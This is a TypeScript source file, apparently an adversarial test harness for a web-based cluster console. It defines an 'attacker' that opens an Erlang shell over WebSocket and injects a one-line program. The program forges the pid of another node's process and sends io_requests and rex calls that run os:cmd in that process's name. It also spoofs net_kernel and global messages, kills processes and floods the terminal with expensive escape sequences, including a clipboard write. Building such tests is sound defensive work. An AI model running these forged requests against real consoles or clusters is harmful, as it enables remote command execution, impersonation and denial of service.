/**
 * A hostile user of a node: in a shell of the console it prints the most expensive control sequences, and sends requests in the
 * name of others to the console's processes.
 */

import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { ClientMessage, ServerMessage } from '@convoy/console/protocol';
import { type Attacker, Tally, type Target } from './attacker.ts';

export function shouter(target: Target): Attacker {
  const tally = new Tally();
  return {
    name: 'a node that shouts and forges',
    counts: tally.counts,
    async run(signal) {
      while (!signal.aborted) {
        try {
          await shout(target, tally, signal);
        } catch {
          tally.add('shells that ended');
        }
        await delay(500, undefined, { signal }).catch(() => undefined);
      }
    },
  };
}

/** One shell, until the signal aborts or it ends. */
async function shout(target: Target, tally: Tally, signal: AbortSignal): Promise<void> {
  const { origin, token } = target;
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const answer = await fetch(`${origin}/api/tickets`, { method: 'POST', headers, body: '{}', signal });
  const { ticket } = (await answer.json()) as { ticket: string };
  const socket = new WebSocket(`${origin.replace('http', 'ws')}/api/live`, { headers: { origin } });
  const end = (): void => socket.terminate();
  signal.addEventListener('abort', end, { once: true });
  socket.on('error', () => tally.add('errors'));
  socket.on('open', () => socket.send(JSON.stringify({ type: 'hello', ticket })));
  socket.on('message', (data: Buffer) => {
    for (const message of answersTo(data.toString(), target, tally)) socket.send(JSON.stringify(message));
  });
  try {
    await once(socket, 'close');
  } finally {
    signal.removeEventListener('abort', end);
  }
}

/** The reaction to a message of the console. */
function answersTo(text: string, { evil, node }: Target, tally: Tally): ClientMessage[] {
  tally.add('messages');
  tally.add('bytes', text.length);
  const rounds = /^\d+/.exec(text.slice(text.lastIndexOf('rounds=') + 7))?.[0];
  if (rounds !== undefined) tally.counts['rounds of forged requests'] = Number(rounds);
  const message = JSON.parse(text) as ServerMessage;
  if (message.type === 'welcome') {
    const client = randomBytes(8).toString('hex');
    return [{ type: 'shell.open', requestId: client, node: evil, kind: 'erl', cols: 120, rows: 40, client }];
  }
  if (message.type === 'shell.opened') {
    tally.add('shells');
    return [{ type: 'shell.input', shellId: message.shell.id, seq: 1, data: `${program(node)}\r` }];
  }
  if (message.type === 'problem') tally.add(`refused: ${message.problem.code}`);
  if (message.type === 'shell.closed') tally.add('shells that were ended');
  return [];
}

/** In Erlang, on one line. The pid is that of a process of another node. */
function program(third: string): string {
  const victim = `binary_to_term(<<131,88,119,${third.length},"${third}",0,0,0,1,0,0,0,0,0,0,0,1>>)`;
  const requests = [
    '{io_request,V,make_ref(),{put_chars,unicode,os,cmd,["id"]}}',
    '{io_request,V,make_ref(),{get_line,unicode,"iex(ts-1@127.0.0.1)1> "}}',
    '{io_request,V,make_ref(),{get_until,unicode,lists:duplicate(5000,$p),erl_scan,tokens,[1]}}',
    '{io_request,self(),make_ref(),{put_chars,latin1,lists:duplicate(1000,7)}}',
    '{io_request,self(),make_ref(),{setopts,[{echo,false}]}}',
    '{io_request,self(),make_ref(),{requests,lists:duplicate(100,{get_geometry,rows})}}',
    '{io_reply,make_ref(),ok}',
    "{'EXIT',V,kill}",
  ];
  const toNames = [
    `{rex,C} ! {V,{call,os,cmd,["id"],G}}`,
    `{net_kernel,C} ! {'$gen_call',{V,make_ref()},{is_auth,node()}}`,
    `{global_name_server,C} ! {'$gen_call',{V,make_ref()},{set_lock,{N,V}}}`,
  ];
  const forge = `catch exit(whereis(forger),kill), register(forger,spawn(fun() -> (fun F(N) -> [G ! R || R <- Q()], ${toNames.join(', ')}, persistent_term:put(forged,N), timer:sleep(10), F(N+1) end)(0) end))`;
  const worst = String.raw`"\e[9999S\e[9999T\e[9999L\e[9999M\e[9999@\e[9999P\e[9999X\e[9999Z\e[9999I\e[?1049h\e]52;c;aWQ=\a\eP+q\e\\\e[6n\e[c\e[20t\e[9999;9999H"`;
  const print = `(fun P(N) -> io:put_chars([lists:duplicate(20,W),"rounds=",integer_to_list(persistent_term:get(forged,0)),10]), timer:sleep(20), P(N+1) end)(0)`;
  return `G = group_leader(), C = node(G), V = ${victim}, W = ${worst}, Q = fun() -> [${requests.join(', ')}] end, ${forge}, ${print}.`;
}
